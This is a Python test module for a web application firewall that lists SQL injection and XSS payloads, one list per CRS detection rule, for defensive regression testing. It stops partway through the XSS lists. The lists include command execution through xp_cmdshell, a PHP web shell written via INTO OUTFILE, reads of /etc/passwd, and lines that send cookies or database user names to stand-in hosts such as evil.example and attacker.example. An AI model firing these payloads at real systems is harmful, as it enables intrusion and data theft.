"""Blind regression set "seventieth": SQL injection and XSS, one sub-family per CRS 3.3.4 request-rule title (PL1-2)
plus the SQLi and XSS titles the CRS 4.x releases added, each written as a careful regression-suite author writes it.

The angle: for every detection title, the attack the title names (the canonical form), then one payload per
alternative in that family (each keyword, function, tag, attribute, procedure, dialect the title covers), then the
variants a good rule must still catch: casing, whitespace and comment substitutes (tab, newline, vertical tab,
``/**/``), concatenation, quoting styles, entity and UTF-7 encodings, and server-decoded percent escapes. 8 to 12
payloads per title.

Families and sub-families (kebab-case, one per title):
- sqli: libinjection-sqli (942100), common-db-names (942140), sleep-benchmark (942160), conditional-sleep-benchmark
  (942170), mssql-exec-info (942190), integer-overflow (942220), conditional-sqli (942230), charset-switch-mssql-dos
  (942240), match-merge-execute (942250), union-select-from (942270), pg-sleep-waitfor-shutdown (942280),
  mongodb-injection (942290), stored-procedure-function (942320), udf-data-structure (942350),
  concatenated-sqllfi (942360), mysql-inline-comment (942500), injection-testing (942110), sql-operator (942120),
  sql-tautology (942130), sql-function-names (942150), auth-bypass-1 (942180), comment-space-obfuscation (942200),
  chained-sqli-1 (942210), auth-bypass-2 (942260), comments-conditions-char (942300), chained-sqli-2 (942310),
  classic-probing-1 (942330), auth-bypass-3 (942340), alter-union-keyword (942361), classic-probing-2 (942370),
  having-order-exists (942380), or-and-numeric (942390), and-keyword-quote (942400), sql-function-list (942410),
  mssql-procedures (942470), outfile-insert-oracle-packages (942480), special-char-anomaly (942430),
  comment-sequence (942440), hex-encoding (942450), ticks-backticks (942510); CRS 4.x: json-sqli,
  scientific-notation, split-query-auth-bypass, auth-bypass-4.
- xss: libinjection-xss (941100), script-tag (941110), event-handler (941120), attribute-vector (941130),
  javascript-uri (941140), noscript-html-injection (941160), noscript-attribute-injection (941170),
  node-validator-blacklist (941180), ie-style-tag (941190), ie-vmlframe (941200), ie-obfuscated-javascript
  (941210), ie-obfuscated-vbscript (941220), ie-embed (941230), ie-import-implementation (941240),
  ie-meta-http-equiv (941250), ie-meta-charset (941260), ie-link-href (941270), ie-base-href (941280),
  ie-applet (941290), ie-object (941300), us-ascii-malformed (941310), utf7-encoding (941350), jsfuck-hieroglyphy
  (941360), js-global-variable (941370), libinjection-xss-pl2 (941101), disallowed-attributes (941150),
  html-tag-handler (941320), ie-quote-property-assign (941330), ie-quote-dotted-assign (941340), angularjs-csti
  (941380); CRS 4.x: js-method, js-without-parentheses.

Placements (as attack traffic reaches this product in production, with the headers a current browser sends):
query (``GET /api/users?q=..&page=..&per_page=..``, parameter order varied, encoded as encodeURIComponent or
URLSearchParams encode), form (``POST /admin/users/search``, ``csrf_token=..&q=..``), json (``POST /api/users``
with one ordinary-looking field carrying the payload, or a forged ``POST /slack/events`` event_callback whose
event.text carries it after a lead-in, with a made-up v0 signature), path (``GET /api/users/<payload>`` or
``GET /api/<payload>``, percent-encoded), header (the whole User-Agent mostly, else the Referer or a cookie value)
and, for about a tenth, ``PATCH /api/users/42`` (JSON) or ``POST /me/settings`` (form). MongoDB operator payloads
of the bracket form go into the parameter name in the query and form placements, and JSON operator objects are
embedded as objects. Payloads of the US-ASCII malformed title are percent-encoded as Latin-1 bytes. The benign half
uses the same six places with innocent values carrying the same words (names with apostrophes, SQL and HTML words
in prose, developers chatting about queries and markup, real user agents and referrers).

Authorship and independence: written for this repository from general knowledge of SQL dialects, browsers and the
rule titles alone; no WAF rule, engine code, ruleset regression test or public payload list was read. Measured
once, through the real stack, on unchanged code; payloads were not changed after seeing the result. The set is
deterministic (seeded random only).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import b64url, print_records

NAME = "seventieth"

# --------------------------------------------------------------------------------------------------------------
# SQL injection, one list per title
# --------------------------------------------------------------------------------------------------------------
SQLI: list[tuple[str, list[str]]] = [
    ("libinjection-sqli", [  # 942100
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "' or 1=1 -- ",
        "admin'--",
        "1; DROP TABLE users",
        "-1' UNION ALL SELECT NULL,NULL,version()#",
        "1 AND 1=2 UNION SELECT 1,@@version",
        "') OR ('a'='a",
        "1'/**/oR/**/1=1/**/--",
        "x' AnD 1=0 UnIoN SeLeCt table_name FROM information_schema.tables WHERE 'a'='a",
        "1\tor\t2>1",
        "\"; SELECT pg_sleep(5);--",
    ]),
    ("common-db-names", [  # 942140
        "1 UNION SELECT table_name FROM information_schema.tables",
        "' union select schema_name from INFORMATION_SCHEMA.SCHEMATA--",
        "1 and (select count(*) from mysql.user)>0",
        "'; select name from master..sysdatabases--",
        "1 union select name from sysobjects where xtype='U'",
        "1 union select name,1 from syscolumns--",
        "' union select usename, passwd from pg_shadow--",
        "1 UNION SELECT tablename FROM pg_catalog.pg_tables",
        "' UNION SELECT sql FROM sqlite_master--",
        "1 union select name from MSysObjects",
        "1 union select username from dba_users--",
        "1 UNION SELECT column_name FROM information_schema . columns WHERE table_name=0x7573657273",
    ]),
    ("sleep-benchmark", [  # 942160
        "1 AND sleep(5)",
        "' or sleep(10)#",
        "1 and SLEEP ( 5 )",
        "benchmark(10000000,md5(1))",
        "' OR BENCHMARK(5000000,SHA1('a'))--",
        "1/**/and/**/sleep/**/(5)",
        "(select*from(select(sleep(3)))a)",
        "SlEeP(2)",
        "benchmark ( 1e7 , md5( 'x' ) )",
        "1' XOR(if(now()=sysdate(),sleep(5),0))OR'",
        "sleep(0x5)",
        "1 and sleep\n(5)",
    ]),
    ("conditional-sleep-benchmark", [  # 942170
        "SELECT IF(1=1,SLEEP(5),0)",
        "1 and if(substring(version(),1,1)=5,sleep(5),1)",
        "' and (select case when 1=1 then sleep(5) else 0 end)--",
        "1; SELECT SLEEP(5)",
        "\" or if(ascii(substr(user(),1,1))>64,benchmark(5000000,md5(1)),0)#",
        "SELECT BENCHMARK(1000000,ENCODE('a','b'))",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)",
        "IF(length(database())>3, sleep(4), 0)",
        "select sleep(5) from dual",
        ";SELECT\tSLEEP(5)",
        "' union select if(1,sleep(2),1)--",
        "1 oR iF(1=1,BeNcHmArK(2000000,sha1(1)),0)",
    ]),
    ("mssql-exec-info", [  # 942190
        "exec master..xp_cmdshell 'dir'",
        "'; exec xp_cmdshell('whoami')--",
        "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE--",
        "1 union select @@version--",
        "1;exec('sel'+'ect 1')",
        "'; EXECUTE xp_dirtree '\\\\attacker.example\\x'--",
        "; exec sp_executesql N'select 1'",
        ";declare @q varchar(99);set @q=0x73656c65637420313b;exec(@q)",
        "' union select name from master..syslogins--",
        "UNION ALL SELECT @@servername, db_name()",
        "1 union select char(58)+@@version+char(58)",
        "'; EXEC   master.dbo.xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet','x'--",
    ]),
    ("integer-overflow", [  # 942220
        "2147483648",
        "-2147483649",
        "4294967296",
        "4294967295",
        "0x7fffffff",
        "0x80000000",
        "0xffffffff",
        "2.2250738585072007e-308",
        "2.2250738585072011e-308",
        "3.0.00738585072007e-308",
        "0.22250738585072011e-307",
        "1e309",
    ]),
    ("conditional-sqli", [  # 942230
        "1 and (case when 1=1 then 1 else 0 end)=1",
        "' and (case when (1=1) then 1 else 1/0 end)=1--",
        "1 and if(1>0,1,0)",
        "1 or iif(1=1,1,0)=1",
        "' or decode(substr(user,1,1),'S',1,0)=1--",
        "case (select 1) when 1 then 'a' end",
        "' or case when ascii(substr(database(),1,1))>100 then true else false end--",
        ";if (select count(*) from users)>0 waitfor delay '0:0:5'--",
        "1 and nullif(1,1) is null",
        "x') when 1 then 1 else 0 end--",
        "1 AnD iF ( 2>1 , 1 , 0 )",
        "1 or ifnull(1,0)=1",
    ]),
    ("charset-switch-mssql-dos", [  # 942240
        "'; WAITFOR DELAY '0:0:10'--",
        "1;waitfor delay '00:00:05'",
        "'; waitfor time '12:00:00'--",
        "\" ; WAITFOR  DELAY \"0:0:5\"",
        "'; alter table users convert to character set latin1--",
        "'; ALTER DATABASE shop CHARACTER SET gbk--",
        "1 union select convert(password using latin1) from users",
        "1 union select _utf8'a' collate utf8_bin",
        "'; SET NAMES 'gbk'--",
        "'; set character_set_client = big5--",
        "' aLtEr TaBlE t ChArAcTeR sEt utf8mb4 #",
        "1;wAiTfOr\tdElAy\t'0:0:9'",
    ]),
    ("match-merge-execute", [  # 942250
        "' union select 1 from users where match(name) against('+admin' in boolean mode)--",
        "1 and MATCH (title,body) AGAINST ('x')",
        "'; merge into users using dual on (1=1) when matched then update set role='admin'--",
        "'; BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;--",
        "execute immediate 'select 1 from dual'",
        "1 and match(a) against (0x61 in natural language mode)",
        "; MERGE users AS t USING src AS s ON t.id=s.id WHEN MATCHED THEN DELETE;",
        "'; merge into accounts a using (select 1 id from dual) b on (a.id=b.id) when not matched then insert "
        "values(1)--",
        "execute  immediate  :x",
        "' or MaTcH(email) AgAiNsT('a*' IN BOOLEAN MODE)#",
        "EXECUTE\tIMMEDIATE\t'GRANT DBA TO scott'",
        "1 or match (password) against (\"+a\")",
    ]),
    ("union-select-from", [  # 942270
        "1 union select 1 from dual",
        "' UNION SELECT password FROM users--",
        "UnIoN sElEcT * FrOm accounts",
        "union all select name from customers",
        "-1 union distinct select email from users",
        "1/**/union/**/select/**/passwd/**/from/**/users",
        "1\nunion\nselect\ntoken\nfrom\nsessions",
        "union(select(user)from(mysql.user))",
        "'union select null from dual--",
        "1 UNION\tSELECT\tx\tFROM\ty",
        "0 union select card_number, 1 from payments where 1",
        "\" UNION  SELECT  secret  FROM  api_keys #",
    ]),
    ("pg-sleep-waitfor-shutdown", [  # 942280
        "'; select pg_sleep(10)--",
        "1;SELECT PG_SLEEP(5)",
        "' || pg_sleep(5)--",
        "(select pg_sleep(3))",
        "pg_sleep ( 5 )",
        "'; waitfor delay '0:0:5'--",
        ";WAITFOR DELAY '00:00:10'",
        "'; shutdown--",
        "; SHUTDOWN WITH NOWAIT--",
        "1;shutdown;--",
        "select pg_sleep_for('5 seconds')",
        "' and 1=(select 1 from pg_sleep(5))--",
    ]),
    ("mongodb-injection", [  # 942290
        "[$ne]=admin",
        "[$gt]=",
        "[$regex]=.*",
        "[$nin][]=admin",
        "[$exists]=true",
        "[$where]=sleep(5000)",
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "{\"$where\": \"this.password.length > 0\"}",
        "{\"$or\": [{}, {\"a\": \"a\"}]}",
        "{\"$regex\": \"^adm\", \"$options\": \"i\"}",
        "'; return db.users.find(); var x='",
    ]),
    ("stored-procedure-function", [  # 942320
        "1 procedure analyse()",
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "'; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'--",
        "'; CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6',"
        "'system' LANGUAGE 'c' STRICT--",
        "; DO $$ BEGIN PERFORM pg_sleep(5); END $$;",
        "1; CALL reset_all_passwords()",
        "; create procedure p() begin select 1; end",
        "'; drop function if exists f--",
        "'; copy (select '') to program 'id'--",
        "'; create  or  replace  procedure x as begin null; end;--",
        "1;DeClArE @x int;sElEcT @x--",
        "'; create trigger t before insert on users for each row set new.role='admin'--",
    ]),
    ("udf-data-structure", [  # 942350
        "; create function sys_eval returns string soname 'udf.so'",
        "'; insert into users(name,role) values('eve','admin')--",
        "'; drop table users--",
        "1; delete from audit_log",
        "'; update users set role='admin' where name='eve'--",
        "; alter table users add column pwn int",
        "'; truncate table logs--",
        "1; create table pwn(x text)",
        "' union select '<?php system($_GET[1]); ?>' into outfile '/var/www/html/s.php'--",
        "'; load data infile '/etc/passwd' into table t--",
        "; rename table users to users_old",
        "'; grant all privileges on *.* to 'eve'@'%'--",
    ]),
    ("concatenated-sqllfi", [  # 942360
        "1'; select * from users--",
        "0 union all select 1,2",
        "-1' union select load_file('/etc/passwd')--",
        "1 load_file('/etc/hosts')",
        "'); SELECT current_user;--",
        "5 select @@datadir",
        "1\" union distinct select 1",
        "1 UNION SELECT LOAD_FILE(0x2f6574632f706173737764)",
        "1; alter user root identified by 'x'",
        "'+load_file('/etc/passwd')+'",
        "9) LoAd_FiLe ('/proc/self/environ')",
        "\"'; select 1 as x--",
    ]),
    ("mysql-inline-comment", [  # 942500
        "/*!50000union*/ /*!50000select*/ 1",
        "1 /*!UNION*/ /*!SELECT*/ 2",
        "/*!12345UNION SELECT*/ password FROM users",
        "'/*!or*/1=1-- ",
        "/*! AND 1=1 */",
        "/*!32302 1/0, */",
        "1/*!00000and*/1=1",
        "x/*!*/union/*!*/select 1",
        "/*!SLEEP(5)*/",
        "/*!40101 SET NAMES utf8 */",
        "1 /*!50000UnIoN*/ /*!50000SeLeCt*/ @@version",
        "'/*!\tor 1=1*/#",
    ]),
    ("injection-testing", [  # 942110
        "'",
        "''",
        "\"",
        "1'",
        "john\"",
        "';",
        "\";",
        "`",
        "\\'",
        "   '",
        "x' ",
        "'''",
    ]),
    ("sql-operator", [  # 942120
        "1 xor 1",
        "' or name rlike '^a'--",
        "1 and user regexp '^root'",
        "' or 'a' sounds like 'a",
        "1 or 2 not between 0 and 1",
        "' and password is not null--",
        "1 <=> 1",
        "' and id not like 'x%'--",
        "1 > all (select 1)",
        "1 = any(select 1)",
        "x' or 1 not in (2)--",
        "' or name ~* '^ADM'--",
    ]),
    ("sql-tautology", [  # 942130
        "1=1",
        "'a'='a'",
        "' or 'x'='x",
        "\" or \"1\"=\"1",
        "' or 'abc'='abc'--",
        "1 OR 0x41=0x41",
        "' or 3 like 3#",
        "') or ('1'='1",
        "1 OR true=true",
        "' or admin=admin--",
        "' or 'a' = 'a",
        "1 or 7 <> 8",
    ]),
    ("sql-function-names", [  # 942150
        "1 and ascii(substring(user(),1,1))>64",
        "' union select group_concat(username) from users--",
        "concat(0x3a,version())",
        "1 and extractvalue(1,concat(0x7e,database()))",
        "' and updatexml(null,concat(0x3a,user()),null)--",
        "1 and length(database())=8",
        "' or ord(mid(version(),1,1))>51--",
        "unhex(hex(current_user()))",
        "CHAR(97,100,109,105,110)",
        "' and MD5 ( 'a' ) = md5('a')--",
        "coalesce(null,schema())",
        "CoNcAt_Ws (0x3a,user(),database())",
    ]),
    ("auth-bypass-1", [  # 942180
        "' or 1=1 --",
        "\"or\"1",
        "' or ''='",
        "admin' #",
        "'='",
        "'or''='",
        "1' or '1'='1'--",
        "administrator'/*",
        "' or true--",
        "x' or 1 limit 1 -- -",
        "\" or \"\"=\"",
        "3' or '3",
    ]),
    ("comment-space-obfuscation", [  # 942200
        "1/**/UNION/**/SELECT/**/1,2",
        "'/**/OR/**/'1'='1",
        "1,(select/**/1)",
        "name`,`password` from users#",
        "1` or 1=1#",
        "1 /*foo*/ union /*bar*/ select 2",
        "select(password)from(users)",
        "1\x0bunion\x0bselect\x0b1",
        "'||(select/*x*/user)||'",
        "`users`.`password`",
        "1,'a','b'",
        "id`=1 or `1`=`1",
    ]),
    ("chained-sqli-1", [  # 942210
        "1; select * from users",
        "x'; insert into log values(1)--",
        "1); update users set a=1--",
        "'||(select 1)||'",
        "1 && select 1",
        "\"; shutdown --",
        "1);declare @a int;--",
        "'; commit; --",
        "1;begin;select 1;end",
        "1' ; SET @a=1 --",
        "x' || 'y' || (select version())",
        "1'  ;  sElEcT 2",
    ]),
    ("auth-bypass-2", [  # 942260
        "admin' --",
        "admin\" #",
        "' or 1 like 1#",
        "') or true--",
        "'=''or'",
        "' xor 1 --",
        "\" or \"\"-\"",
        "' between 0 and 1 --",
        "' or 1 in (1)--",
        "'-'",
        "'*'",
        "'&'",
    ]),
    ("comments-conditions-char", [  # 942300
        "CHAR(0x61,0x64)",
        "chr(65)||chr(66)",
        "' and 1=1#",
        "1) or 1=1#",
        "' + char(39) + '",
        "concat(char(97),char(98))",
        "case when 1 then char(49) end",
        "x' union select chr(58)||chr(58)--",
        "'; select char(119,104,111)#",
        "1 and (select ascii(char(65)))=65#",
        "'-- -",
        "') when 2 then ChR(50) end--",
    ]),
    ("chained-sqli-2", [  # 942310
        "'); DROP TABLE students;--",
        "1; exec('select 1')",
        "';if(1=1) select 1--",
        "x');insert into users values('eve')--",
        "1)); select 1",
        "'  ;  select 1 ;",
        "1 or (select 1)=1;--",
        "admin');--",
        "1\";update users set role='admin'--",
        "';declare @v varchar(10) select @v--",
        "'||(select version())||'",
        "1;\nselect\n2",
    ]),
    ("classic-probing-1", [  # 942330
        "' or '",
        "\" or \"",
        "1' and '1",
        "x' and 'x",
        "' or 0=0 #",
        "\" or 0=0 --",
        "or 0=0 #",
        "' or 1 --'",
        "1\" and \"1\"=\"1",
        "'or 1 = 1/*",
        "' and 'a'<'b",
        "') or ('x')=('x",
    ]),
    ("auth-bypass-3", [  # 942340
        "' or 1=1 limit 1--",
        "admin' and 1=1 union select 1,'admin','x'--",
        "foo' in boolean mode)--",
        "\" or true--",
        "' union select 'admin','5f4dcc3b5aa765d61d8327deb882cf99'--",
        "'or(1)='1",
        "admin') --",
        "1' or '1' = '1'))--",
        "') or 1 = 1 limit 1 -- -+",
        "'or(true)#",
        "' OR '' = '",
        "\"or(1)#",
    ]),
    ("alter-union-keyword", [  # 942361
        "1 union select 2",
        "' union all select null--",
        "0 UNION DISTINCT SELECT 1",
        "'; ALTER TABLE users DROP COLUMN pw--",
        "x alter user x",
        "\" union(select 1)",
        "1)) union select 1",
        "UNION SELECT",
        "uNiOn ALL sElEcT 1",
        "'\nunion\nselect 1",
        "1 alter database shop",
        "alter system set",
    ]),
    ("classic-probing-2", [  # 942370
        "x'*'y' or 'a",
        "1'=1 and '1'='1",
        "'-1 or 1=1",
        "\"+1 or \"1",
        "x' ^ 'y",
        "'|1|'",
        "' | 1 or '",
        "1'/1 and 'a",
        "' and 1 ='1",
        "'%1 or '1",
        "\"=\"\"or\"\"=\"",
        "'*1 oR '1",
    ]),
    ("having-order-exists", [  # 942380
        "1 having 1=1",
        "' group by columnnames having 1=1--",
        "1 order by 1--",
        "1' ORDER BY 100#",
        "1 and exists (select 1)",
        "' and not exists(select 1 from dual)--",
        "1 limit 1,1",
        "1 group by password having 1--",
        "1 rlike (select 1)",
        "' or exists(select * from users where name='admin')--",
        "1\torder\tby\t5",
        "1 HaViNg 1 = 1 --",
    ]),
    ("or-and-numeric", [  # 942390
        "' or 3=3",
        "1 and 7>6",
        "a or 1",
        "1 xor 0",
        "' || 1--",
        "1 or true",
        "1 and false",
        "' and 'x'<'y",
        "1 or 2 between 1 and 3",
        "1 or 'a' like 'a'",
        "1 && 1",
        "x' or 1 is not null--",
    ]),
    ("and-keyword-quote", [  # 942400
        "1 and '1'='1",
        "' and 'a",
        "x and \"1\"",
        "1 AND ('1')",
        "' and substring(@@version,1,1)='5",
        "and 1 = 1",
        "and true",
        "1 and ascii('a')=97",
        "' aNd 'x' like 'x",
        "and(1)=(1)",
        "and/**/1",
        "1 and\t'b'",
    ]),
    ("sql-function-list", [  # 942410
        "1 and name_const(version(),1)",
        "' or get_lock('x',5)--",
        "1 and master_pos_wait('a',1,5)",
        "cast(version() as int)",
        "' and find_in_set('a',user())--",
        "1 and crc32(user())>0",
        "export_set(5,'Y','N',',',4)",
        "1 and conv(hex(user()),16,10)",
        "' and make_set(1,version())--",
        "1 and to_base64(database())",
        "' or row_count()=0#",
        "1 and weight_string(user())",
    ]),
    ("mssql-procedures", [  # 942470
        "'; exec xp_cmdshell 'ping 10.0.0.1'--",
        "1; exec master..xp_dirtree '\\\\attacker.example\\a'",
        "; exec sp_addlogin 'eve','x'",
        "; exec sp_addsrvrolemember 'eve','sysadmin'",
        "; exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select 1'",
        "select * from openrowset('SQLOLEDB','srv';'sa';'','select 1')",
        "opendatasource('SQLOLEDB','Data Source=attacker.example;User ID=sa')",
        "'; exec sp_oacreate 'wscript.shell',@o out--",
        "; exec sp_password null,'x','sa'",
        "'; exec xp_regwrite 'HKEY_LOCAL_MACHINE','x','y','REG_SZ','z'--",
        "'; exec xp_servicecontrol 'start','schedule'--",
        "select * from openquery(lnk,'select 1')",
    ]),
    ("outfile-insert-oracle-packages", [  # 942480
        "' union select 1 into outfile '/tmp/a'--",
        "1 into dumpfile '/var/www/s.php'",
        "'; insert into users(name) values('x')--",
        "'; delete from sessions--",
        "' ; update users set is_admin=1 where 1=1--",
        "1 union select @@version",
        "' and 1=dbms_pipe.receive_message('a',5)--",
        "'; begin dbms_lock.sleep(5); end;--",
        "' || utl_http.request('http://attacker.example/'||user)||'",
        "' || utl_inaddr.get_host_name((select user from dual))||'",
        "1 and 1=(select count(*) from all_users)",
        "1 and ctxsys.drithsx.sn(1,(select user from dual))=1",
    ]),
    ("special-char-anomaly", [  # 942430
        "'''''''''''''''",
        "((((((((((((((1))))))))))))))",
        "~!@#$%^&*()_+{}|:\"<>?",
        "'\"''\"''\"''\"''\"''\"'",
        ";;;;;;;;;;;;;;;",
        "1')))))))))))))--",
        "@@@@@@@@@@@@@@",
        "--!--!--!--!--!--!--",
        "'-'-'-'-'-'-'-'-'-'",
        "\"{}[]();;'':<>|^^&&\"",
        "$$$$$$$$$$$$$$",
        "==============",
    ]),
    ("comment-sequence", [  # 942440
        "root'--",
        "1 -- -",
        "x'#",
        "1/*",
        "*/",
        "'/* */'",
        "1--+",
        "'; --",
        "1;#",
        "\"--",
        "') -- ",
        "1 /*! */",
    ]),
    ("hex-encoding", [  # 942450
        "0x61646d696e",
        "1 union select 0x3c3f706870206576616c28245f504f53545b315d293b3f3e",
        "' or user=0x726f6f74--",
        "X'61646D696E'",
        "0X2F6574632F706173737764",
        "concat(0x7e,version(),0x7e)",
        "0x2f2a2a2f",
        "char(0x41)",
        "where name=0x41424344",
        "x'7573657273'",
        "0x7E",
        "1 and 0x31=0x31",
    ]),
    ("ticks-backticks", [  # 942510
        "` or 1=1 -- ",
        "`union`select 1",
        "\u00b4 or \u00b41\u00b4=\u00b41",
        "\u2018 or \u20181\u2019=\u20191",
        "id` from users where `1`=`1",
        "`)or`1`=`1",
        "a` union select 1,2#",
        "\u00b4; drop table x; --",
        "admin`--",
        "`password`from`users`",
        "\u00b4 union select \u00b4a",
        "`;select`",
    ]),
    # CRS 4.x titles (wording approximate)
    ("json-sqli", [
        "' or data->>'role'='admin'--",
        "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1--",
        "'{\"a\":\"b\"}' @> '{\"a\":\"b\"}'",
        "1 or '{}'::jsonb ? 'a'",
        "' or data #> '{a,b}' is not null--",
        "1 and json_keys('{}') is null",
        "' || (select row_to_json(u) from users u limit 1)--",
        "' or '[1]'::jsonb <@ '[1,2]'--",
        "1 or jsonb_typeof('{}')='object'",
        "' and json_valid('{}')=1 --",
        "1 or '{\"x\":1}' -> 'x' = '1'",
    ]),
    ("scientific-notation", [
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e) 1.e)) = 1.e 97",
        "' or 1.e('')='",
        "1e1union select 1,2",
        ".1e1union select 1",
        "1.e(user())",
        "1.e.(select 1)",
        "0.e1 or 1=1",
        "1E0UNION SELECT 1",
        "' and 1.e(1)=1 #",
        "1.e,user()",
        "2.e1and 1=1",
    ]),
    ("split-query-auth-bypass", [
        "admin'/*",
        "*/ or 1=1 --",
        "*/='' or ''='",
        "' or 1=1/*",
        "*/ or 'x'='x",
        "pwd' ) /*",
        "*/ OR true #",
        "*/union select 1,'admin','x'--",
        "\\",
        " or 1=1 -- -",
    ]),
    ("auth-bypass-4", [
        "'or 1#",
        "'||'1",
        "\"or\"1\"=\"1",
        "' or 'a'>'",
        "admin' or '1",
        "') or ('1",
        "'|| true --",
        "' oR 0x31 --",
        "1' or 1 # ",
        "\" || \"1\"=\"1\" -- ",
    ]),
]

# --------------------------------------------------------------------------------------------------------------
# XSS, one list per title
# --------------------------------------------------------------------------------------------------------------
XSS: list[tuple[str, list[str]]] = [
    ("libinjection-xss", [  # 941100
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "\"><script>alert(document.domain)</script>",
        "'><img src=1 onerror=prompt(1)>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext><img src onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
    ]),
    ("script-tag", [  # 941110
        "<script>confirm(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<SCRIPT>alert('x')</SCRIPT>",
        "<script\n>alert(1)</script>",
        "<script type=\"text/javascript\">print()</script>",
        "<script/x>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<script >alert(1)</script >",
        "<scr<script>ipt>alert(1)</script>",
        "<script\tsrc=\"https://evil.example/a.js\"></script>",
        "</script><script>alert(1)</script>",
        "<sCrIpT defer>fetch('//evil.example/'+document.cookie)</ScRiPt>",
    ]),
    ("event-handler", [  # 941120
        "<div onmouseover=\"alert(1)\">x</div>",
        "<input autofocus onfocus=alert(1)>",
        "<svg/onload=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "\" onclick=alert(1) x=\"",
        "<a onmouseenter=alert(1)>hover</a>",
        "<form onsubmit=alert(1)><button>go</button></form>",
        "' ONERROR = alert(1) '",
        "<x onpointerover=alert(1)>x</x>",
        "<body onpageshow=alert(1)>",
        "<img src=x\nonerror\n=\nalert(1)>",
    ]),
    ("attribute-vector", [  # 941130
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<form><button formaction=javascript:alert(1)>X</button></form>",
        "<object data=\"javascript:alert(1)\">",
        "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a xlink:href=\"javascript:alert(1)\"><rect "
        "width=9 height=9/></a></svg>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<!DOCTYPE x [<!ENTITY xxe \"&#60;script&#62;\">]>",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<isindex action=javascript:alert(1) type=image>",
        "<input type=image formaction=\"JaVaScRiPt:alert(1)\" src=x>",
    ]),
    ("javascript-uri", [  # 941140
        "<div style=\"background:url(javascript:alert(1))\">",
        "<p style=width:1px;background-image:url(javascript:alert(1))>",
        "<li style=\"list-style-image: url(javascript:alert(1))\">",
        "<div style=\"content:url(javascript:alert(1))\">",
        "<span style=\"cursor:url(vbscript:msgbox(1))\">",
        "<table background=\"javascript:alert(1)\">",
        "<div style=\"behavior:url(javascript:alert(1))\">",
        "x style=color:red;background:URL(JavaScript:alert(1))",
        "<b style=\"x:url( javascript:alert(1) )\">",
        "<a style=\"background-image:url('javascript:alert(1)')\">",
        "<div style=background:url(\"javascript:alert(1)\")>",
        "<i style=\"border-image:url(javascript:alert(1)) 30 round\">",
    ]),
    ("noscript-html-injection", [  # 941160
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=x.swf></object>",
        "<embed src=x.swf>",
        "<applet code=X.class></applet>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"//evil.example/x/\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<form action=https://evil.example><input name=pw></form>",
        "<style>body{display:none}</style>",
        "<frameset><frame src=https://evil.example></frameset>",
        "<svg><script>alert(1)</script></svg>",
        "<IfRaMe\nsrc=//evil.example>",
    ]),
    ("noscript-attribute-injection", [  # 941170
        "\"onfocus=\"alert(1)\" autofocus=\"",
        "' onmouseover='alert(1)",
        "\" style=\"behavior:url(x.htc)",
        "\" src=\"javascript:alert(1)",
        "\"/><img src=x onerror=alert(1)>",
        "\" data=\"javascript:alert(1)",
        "x\" action=\"javascript:alert(1)",
        "\"autofocus onfocus=alert(1)//",
        "' href='javascript:alert(1)",
        "\"xlink:href=\"javascript:alert(1)",
        "\" lowsrc=\"javascript:alert(1)",
        "\" background=\"javascript:alert(1)",
    ]),
    ("node-validator-blacklist", [  # 941180
        "document.cookie",
        "DOCUMENT.COOKIE",
        "document.write('<img src=x>')",
        "x.parentNode.removeChild(x)",
        "el.innerHTML='<b>owned</b>'",
        "window.location='https://evil.example'",
        "-moz-binding:url(https://evil.example/x.xml#xss)",
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "top.document.cookie",
        "window.location.href=name",
        "'-->",
    ]),
    ("ie-style-tag", [  # 941190
        "<style>@import'//evil.example/x.css';</style>",
        "<STYLE>body{x:expression(alert(1))}</STYLE>",
        "<style type=\"text/css\">@import url(https://evil.example/a.css);</style>",
        "<style>li{width:expression(alert(1))}</style>",
        "<style\n>@import 'x';</style>",
        "<StYlE>*{x:eXpReSsIoN(alert(1))}</sTyLe>",
        "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
        "<style media=all>@import \"//evil.example\";</style>",
        "<style>div{background:expression(alert(1))}</style>",
        "<style>@IMPORT url(//evil.example/b.css)</style>",
    ]),
    ("ie-vmlframe", [  # 941200
        "<v:vmlframe src=\"https://evil.example/x.vml#xss\">",
        "<x:vmlframe src=foo.vml>",
        "<v:vmlframe\tsrc=//evil.example/a.vml>",
